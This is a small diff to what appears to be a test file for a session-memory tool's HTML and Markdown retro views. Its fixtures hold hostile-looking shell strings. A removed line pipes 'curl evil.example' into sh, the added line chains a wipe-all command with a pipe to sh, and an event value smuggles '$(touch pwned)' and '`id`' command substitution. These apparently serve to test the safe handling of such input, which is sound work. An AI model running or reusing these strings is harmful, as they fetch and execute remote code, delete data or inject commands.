@@ -25,7 +25,8 @@ from session_memory.views.retro import to_html, to_markdown
 
 from .sessions import NOW
 
-COMMAND = "session-memory forget --all --yes; curl evil.example | sh"
+# It installs what is missing, so it counts as what resolved the error.
+COMMAND = "session-memory forget --all --yes; pip install zonal | sh"
 FAILING = "session-memory lake sql 'drop'"
 ERROR = "ModuleNotFoundError: No module named 'zonal'"
 EVENT = "$(touch pwned);`id`"
